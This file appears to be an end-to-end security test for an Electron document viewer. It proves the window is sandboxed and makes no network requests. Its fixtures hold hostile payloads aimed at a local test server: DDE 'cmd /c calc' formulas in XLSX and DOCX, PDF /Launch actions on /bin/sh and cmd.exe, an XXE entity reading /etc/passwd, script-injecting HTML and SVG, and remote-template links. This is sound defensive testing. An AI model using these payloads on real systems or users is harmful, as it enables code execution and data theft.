// Owns the proof that the window is shut in: no Node, no way to another page, no permission, no request, no foreign voice. Each is tried in the real application.
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { storedZip } from '../support/storedZip.ts';
import { type Desk, expect, test } from './fixtures.ts';
import { sideBySide } from './pages/SideBySidePage.ts';

test('the page is shut in: no Node, no way out, no permission, no foreign script, no foreign voice', async ({ desk }) => {
  await test.step('the page has no Node and no Electron, and one frozen bridge', async () => {
    const found = await desk.page.evaluate(() => {
      const names = ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'];
      return {
        names: names.filter((name) => name in window),
        isFrozen: Object.isFrozen(window.desk),
        bridge: Object.keys(window.desk).sort(),
      };
    });
    expect(found).toEqual({
      names: [],
      isFrozen: true,
      bridge: [
        'about',
        'call',
        'choosePaths',
        'choosePlace',
        'closeReader',
        'letGo',
        'on',
        'pathsOf',
        'protection',
        'saveMarkedCopy',
        'saveOriginal',
        'savePaper',
        'saveProblemReport',
        'saveReport',
        'showReader',
        'startAgain',
        'tellFocus',
      ],
    });
  });

  await test.step('the page is sandboxed and isolated', async () => {
    const preferences = await desk.application.evaluate(({ BrowserWindow }) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as { getLastWebPreferences(): Record<string, unknown> };
      const { sandbox, contextIsolation, nodeIntegration, webSecurity, webviewTag } = contents.getLastWebPreferences();
      return { sandbox, contextIsolation, nodeIntegration, webSecurity, webviewTag };
    });
    expect(preferences).toEqual({ sandbox: true, contextIsolation: true, nodeIntegration: false, webSecurity: true, webviewTag: false });
  });

  await test.step('the page cannot leave, open windows or frame a foreign page', async () => {
    const address = desk.page.url();
    const opened = await desk.page.evaluate(() => window.open('https://example.org/') === null);
    expect(opened).toBe(true);
    for (const target of ['https://example.org/', 'file:///etc/passwd', 'app://desk/elsewhere.html', 'data:text/html,<p>no']) {
      await desk.page.evaluate((to) => {
        const link = document.createElement('a');
        link.href = to;
        document.body.append(link);
        link.click();
        link.remove();
        location.href = to;
      }, target);
    }
    const framed = await desk.page.evaluate(async () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://example.org/';
      document.body.append(frame);
      await new Promise((done) => frame.addEventListener('load', done, { once: true }));
      let words = 'another origin';
      try {
        words = frame.contentDocument?.body.textContent ?? '';
      } catch {
        // Chromium shows its own page of refusal in another origin.
      }
      frame.remove();
      return words;
    });
    expect(framed).not.toContain('Example');
    expect(desk.page.url()).toBe(address);
    expect(await desk.application.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  });

  await test.step('every permission is denied, but that to put words on the clipboard', async () => {
    const answers = await desk.page.evaluate(async () => {
      const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi'] as PermissionName[];
      const states = await Promise.all(names.map((name) => navigator.permissions.query({ name }).then((status) => status.state)));
      const media = await navigator.mediaDevices.getUserMedia({ audio: true }).then(
        () => 'given',
        () => 'denied',
      );
      return [...states, media];
    });
    expect(new Set(answers)).toEqual(new Set(['denied']));
    // That words are put on it when somebody presses Copy is seen in boot.spec.ts.
    const reading = await desk.page.evaluate(() =>
      navigator.clipboard.readText().then(
        () => 'given',
        () => 'denied',
      ),
    );
    expect(reading).toBe('denied');
  });

  await test.step('a message from any frame but the page is not heard', async () => {
    const answer = await desk.application.evaluate(async ({ app, BrowserWindow }) => {
      const preload = `${app.getAppPath()}/out/preload/index.cjs`;
      const foreign = new BrowserWindow({ show: false, webPreferences: { preload, sandbox: true } });
      // Not the application's page, yet with its preload: what a page that got in by a hole would be.
      await foreign.loadURL('data:text/html,<p>foreign');
      const told = await foreign.webContents.executeJavaScript(
        `window.desk.call('desk.listCases', {}).then(() => 'heard', (problem) => problem.message)`,
      );
      foreign.destroy();
      return String(told);
    });
    expect(answer).toContain('may not ask');
  });

  await test.step('an unknown operation and an input of the wrong shape are refused by name', async () => {
    const replies = await desk.page.evaluate(async () => {
      const call = window.desk.call as unknown as (operation: unknown, input: unknown) => Promise<unknown>;
      return [
        await call('desk.wipe', {}),
        await call('__proto__', {}),
        await call('draft.read', { caseId: '../etc' }),
        await call('draft.read', { caseId: 7, more: 1 }),
      ];
    });
    expect(replies).toMatchObject([
      { ok: false, fault: { code: 'invalid', place: 'operation' } },
      { ok: false, fault: { code: 'invalid', place: 'operation' } },
      { ok: false, fault: { code: 'invalid', place: 'draft.read.caseId' } },
      { ok: false, fault: { code: 'invalid' } },
    ]);
  });

  await test.step('a download goes nowhere', async () => {
    const downloads = await desk.application.evaluate(async ({ BrowserWindow, session }) => {
      const states: string[] = [];
      session.defaultSession.on('will-download', (event) => states.push(event.defaultPrevented ? 'prevented' : 'begun'));
      const begun = new Promise((done) => session.defaultSession.once('will-download', done));
      BrowserWindow.getAllWindows()[0]?.webContents.downloadURL('app://desk/index.html');
      await begun;
      return states;
    });
    expect(downloads).toEqual(['prevented']);
  });

  await test.step('the page runs no script but its own', async () => {
    const violations = await desk.page.evaluate(async () => {
      const seen: string[] = [];
      const handlerRefused = new Promise<void>((done) => {
        document.addEventListener('securitypolicyviolation', (event) => {
          seen.push(event.effectiveDirective);
          if (event.effectiveDirective === 'script-src-attr') done();
        });
      });
      const inline = document.createElement('script');
      inline.textContent = 'window.wasRun = true';
      document.head.append(inline);
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.wasRun = true');
      image.src = 'data:image/png;base64,AAAA';
      document.body.append(image);
      await handlerRefused;
      image.remove();
      try {
        new Function('window.wasRun = true')();
      } catch {
        seen.push('eval');
      }
      return { seen: [...new Set(seen)].sort(), wasRun: 'wasRun' in window };
    });
    expect(violations.wasRun).toBe(false);
    expect(violations.seen).toEqual(expect.arrayContaining(['eval', 'script-src-attr', 'script-src-elem']));
  });
});

test.describe('a machine with a network', () => {
  test.use({ provesSilence: false });

  test('hears nothing: requests of the page, of a frame with mail in it, and of the shell are refused', async ({ desk }) => {
    let heard = 0;
    const server = createServer((_request, answer) => {
      heard += 1;
      answer.end('heard');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const answers = await desk.page.evaluate(async (to) => {
        const fetched = await fetch(`${to}/fetch`).then(
          () => 'reached',
          () => 'refused',
        );
        const pictured = await new Promise((done) => {
          const image = new Image();
          image.onload = () => done('reached');
          image.onerror = () => done('refused');
          image.src = `${to}/pixel.png`;
        });
        const socket = await new Promise((done) => {
          try {
            const line = new WebSocket(to.replace('http', 'ws'));
            line.onopen = () => done('reached');
            line.onerror = () => done('refused');
          } catch {
            done('refused');
          }
        });
        const mail = document.createElement('iframe');
        mail.setAttribute('sandbox', 'allow-same-origin');
        mail.srcdoc = `<p>Letter</p><img src="${to}/mail.png"><link rel="stylesheet" href="${to}/mail.css"><script>top.wasRun = true</script>`;
        document.body.append(mail);
        await new Promise((done) => mail.addEventListener('load', done, { once: true }));
        const letter = mail.contentDocument?.querySelector('p')?.textContent;
        mail.remove();
        navigator.sendBeacon(`${to}/beacon`, 'x');
        return { fetched, pictured, socket, letter, wasRun: 'wasRun' in window };
      }, origin);
      expect(answers).toEqual({ fetched: 'refused', pictured: 'refused', socket: 'refused', letter: 'Letter', wasRun: false });
      // The page's policy stops a page; the shell's filter stops whatever has none. Asked through the session itself, past the policy.
      const shell = await desk.application.evaluate(
        ({ session }, to) =>
          session.defaultSession.fetch(to).then(
            () => 'reached',
            () => 'refused',
          ),
        `${origin}/shell`,
      );
      expect(shell).toBe('refused');
      await desk.untilLogged('Refused a request');
      expect(heard).toBe(0);
      await showsHostilePapers(desk, origin);
      expect(heard).toBe(0);
    } finally {
      await new Promise((done) => server.close(done));
    }
  });
});

/** Papers that run, ask, post, link and grow without end, taken in and shown one after the other. */
async function showsHostilePapers(desk: Desk, origin: string): Promise<void> {
  const papers = path.join(desk.folder, 'papers');
  await mkdir(papers);
  for (const [name, content] of Object.entries(hostile(origin))) await writeFile(path.join(papers, name), content);
  const caseId = await desk.makeCase();
  await desk.takeIn({ caseId, side: 'resident', paths: [papers] });
  const { page } = desk;
  await page.getByRole('row', { name: /202400001/ }).click();
  await page.keyboard.press('Alt+3');
  await desk.until('desk:case-open');
  const screen = await sideBySide(desk, caseId);
  const shown = screen.rows.filter(({ status, kind }) => status === 'read' && kind !== 'record');
  expect(shown.map(({ fileName }) => fileName).sort()).toEqual([
    'figures.xlsx',
    'form.html',
    'frames.html',
    'huge.png',
    'launch.pdf',
    'letter.docx',
    'mail.eml',
    'plan.svg',
    'script.pdf',
    // What a PDF carries lies beside it, to be read as words or not at all.
    'setup.exe',
    'style.svg',
  ]);
  let drawn = 0;
  for (const { exhibit, title, fileName } of shown) {
    await screen.open(exhibit);
    const reader = screen.reader(title);
    await expect(reader).toBeVisible();
    await expect(reader.locator('[aria-busy="true"]')).toHaveCount(0);
    if (!fileName.endsWith('.pdf')) continue;
    drawn += 1;
    await desk.until('desk:page-drawn', drawn);
  }
  // Whatever stands in a frame may be pressed: no form posts, no link leads away.
  for (const frame of page.frames()) {
    if (frame === page.mainFrame()) continue;
    await frame.evaluate(() => {
      for (const form of document.forms) form.submit();
      for (const link of document.querySelectorAll('a')) link.click();
    });
  }
  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
  expect(page.url()).toMatch(/^app:\/\/desk\//);
  expect(desk.application.windows()).toHaveLength(1);
}

function hostile(origin: string): Readonly<Record<string, string | Uint8Array>> {
  const run = 'top.wasRun = true';
  const markup = `<p>Words</p><script>${run}</script><img src="${origin}/a.png" onerror="${run}"><link rel="stylesheet" href="${origin}/a.css"><meta http-equiv="refresh" content="0;url=${origin}/go"><iframe src="file:///etc/passwd"></iframe><object data="${origin}/o"></object><a href="file:///etc/passwd">file</a><a href="javascript:${run}">script</a><form action="${origin}/post" method="post"><input name="a" autofocus onfocus="${run}"><button>Send</button></form><canvas width="100000" height="100000"></canvas><style>@import url(${origin}/b.css); p { background: url(${origin}/c.png) }</style>`;
  const header = Buffer.alloc(33);
  header.write('\u0089PNG\r\n\u001a\n', 0, 'latin1');
  header.writeUInt32BE(13, 8);
  header.write('IHDR', 12);
  header.writeUInt32BE(100_000, 16);
  header.writeUInt32BE(100_000, 20);
  header.set([8, 6], 24);
  const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const sheets = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const types = 'application/vnd.openxmlformats-officedocument';
  return {
    'form.html': markup,
    'frames.html': `<base href="${origin}/"><p>Words</p>${asking(origin)}${framing(origin, run)}`,
    'figures.xlsx': storedZip({
      '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${types}.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${types}.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${types}.spreadsheetml.externalLink+xml"/></Types>`,
      '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      'xl/workbook.xml': `<?xml version="1.0"?><workbook xmlns="${sheets}" xmlns:r="${relations}"><sheets><sheet name="Log" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>`,
      'xl/_rels/workbook.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="${relations}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
      'xl/externalLinks/externalLink1.xml': `<?xml version="1.0"?><externalLink xmlns="${sheets}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>`,
      'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><worksheet xmlns="${sheets}" xmlns:r="${relations}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Date</t></is></c><c r="B1" t="inlineStr"><is><t>Note</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>3 May 2023</t></is></c><c r="B2" t="str"><f>WEBSERVICE("${origin}/web")</f><v>Rang</v></c></row><row r="3"><c r="A3" t="str"><f>cmd|'/c calc'!A1</f><v>4 May 2023</v></c><c r="B3" t="str"><f>IMAGE("${origin}/image.png")</f><v>Wrote</v></c></row></sheetData><hyperlinks><hyperlink ref="B2" r:id="r9"/></hyperlinks></worksheet>`,
      'xl/worksheets/_rels/sheet1.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="${relations}/hyperlink" Target="${origin}/cell" TargetMode="External"/></Relationships>`,
    }),
    'style.svg': `<?xml version="1.0"?><?xml-stylesheet href="${origin}/sheet.css"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><style>@import url(${origin}/style.css); text { fill: url(${origin}/fill.svg#a) }</style><filter id="f"><feImage href="${origin}/filter.png"/></filter><use href="${origin}/use.svg#a"/><foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${origin}/foreign.png"/><script>${run}</script></body></foreignObject><a href="javascript:${run}"><animate attributeName="href" values="${origin}/a"/><text filter="url(#f)" y="20">Words</text></a></svg>`,
    'launch.pdf': `%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> /Next << /S /GoToR /F << /FS /URL /F (${origin}/remote.pdf) >> /D [0 /Fit] >> >> /AA << /WC << /S /JavaScript /JS (this.submitForm('${origin}/close')) >> >> /Names << /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL('${origin}/name')) >>] >> >> >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /AA << /O << /S /URI /URI (${origin}/opened) >> >> /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /I 7 0 R >> >>
/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /Launch /F << /FS /URL /F (${origin}/launch) >> >> >> << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >> ] >> endobj
4 0 obj << /Length 57 >> stream
BT /F 24 Tf 9 9 Td (Words) Tj ET q 90 0 0 90 9 99 cm /I Do Q
endstream endobj
5 0 obj << /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 6 0 R >> >> endobj
6 0 obj << /Type /EmbeddedFile /Length 12 >> stream
MZ\u0090program..
endstream endobj
7 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (${origin}/picture.png) >> /Length 0 >> stream
endstream endobj
trailer << /Root 1 0 R >>`,
    'mail.eml': `From: Ana <ana@post.example>\r\nSubject: Mail\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${markup}`,
    'plan.svg': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100000" height="100000" onload="${run}"><script>${run}</script><image xlink:href="${origin}/i.png"/><foreignObject><iframe src="${origin}/f"/></foreignObject><text>Plan</text></svg>`,
    'huge.png': header,
    'script.pdf': `%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('${origin}/js'\\)) >> >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 14400000 14400000] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>
/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 14400000 14400000] /A << /S /URI /URI (${origin}/uri) >> >> << /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A << /S /SubmitForm /F (${origin}/submit) >> >> ] >> endobj
4 0 obj << /Length 31 >> stream
BT /F 24 Tf 9 9 Td (Words) Tj ET
endstream endobj
trailer << /Root 1 0 R >>`,
    'letter.docx': storedZip({
      '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
      '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relations}/officeDocument" Target="word/document.xml"/></Relationships>`,
      'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="${relations}/attachedTemplate" Target="${origin}/t.dotm" TargetMode="External"/><Relationship Id="l" Type="${relations}/hyperlink" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="p" Type="${relations}/image" Target="${origin}/linked.png" TargetMode="External"/><Relationship Id="o" Type="${relations}/oleObject" Target="${origin}/object.xlsx" TargetMode="External"/><Relationship Id="c" Type="${relations}/aFChunk" Target="${origin}/chunk.html" TargetMode="External"/></Relationships>`,
      'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${relations}"><w:body><w:p><w:hyperlink r:id="l"><w:r><w:t>Words of a letter</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="p"/></w:drawing><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet.12" r:id="o" UpdateMode="Always"/></w:object></w:r><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "/><w:fldSimple w:instr=" INCLUDEPICTURE &quot;${origin}/field.png&quot; "/></w:p><w:altChunk r:id="c"/></w:body></w:document>`,
    }),
  };
}

/** Everything of HTML that asks for something as it is shown, or when somebody points at it. */
function asking(origin: string): string {
  const links = [
    'prefetch',
    'preload',
    'dns-prefetch',
    'preconnect',
    'prerender',
    'modulepreload',
    'icon',
    'manifest',
    'alternate stylesheet',
  ];
  return `${links.map((rel) => `<link rel="${rel}" href="${origin}/${rel.replace(' ', '')}" as="image">`).join('')}
<style>@import "${origin}/import.css"; @font-face { font-family: f; src: url(${origin}/font.woff2) } p { font-family: f; cursor: url(${origin}/cursor.png), auto } p::before { content: url(${origin}/before.png) }</style>
<p style="background: image-set(url(${origin}/set.png) 1x)">Words</p>
<img srcset="${origin}/set.png 2x" src="//${origin.replace('http://', '')}/no-scheme.png" lowsrc="${origin}/low.png" dynsrc="${origin}/dyn.png">
<picture><source srcset="${origin}/source.png"><img src="${origin}/picture.png"></picture>
<table background="${origin}/table.png"><tr><td background="${origin}/cell.png">Words</td></tr></table>
<video src="${origin}/video.mp4" poster="${origin}/poster.png" autoplay><track src="${origin}/track.vtt" default></video><audio src="${origin}/audio.mp3" autoplay></audio>
<input type="image" src="${origin}/input.png"><a href="${origin}/link" ping="${origin}/ping">link</a>
<svg><image href="${origin}/svg.png"/><use href="${origin}/use.svg#a"/></svg><math href="${origin}/math"><mi>x</mi></math>
<template shadowrootmode="open"><img src="${origin}/shadow.png"></template><dialog open><img src="${origin}/dialog.png"></dialog>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${origin}/speculated"]}],"prerender":[{"source":"list","urls":["${origin}/rendered"]}]}</script>`;
}

/** Everything of HTML that shows another page inside it. */
function framing(origin: string, run: string): string {
  const page = `<script>${run}</script><img src=${origin}/inner.png>`;
  return `<portal src="${origin}/portal"></portal><fencedframe src="${origin}/fenced"></fencedframe>
<iframe src="data:text/html,${encodeURIComponent(page)}"></iframe><iframe srcdoc="${page.replaceAll('"', '&quot;')}"></iframe><iframe src="blob:null/0b0b" ></iframe><iframe src="${origin}/frame" loading="lazy" credentialless></iframe>
<object data="data:text/html,${encodeURIComponent(page)}"></object><embed src="${origin}/embed"><applet code="${origin}/applet"></applet>
<frameset><frame src="${origin}/frameset"></frameset><webview src="${origin}/webview"></webview>`;
}
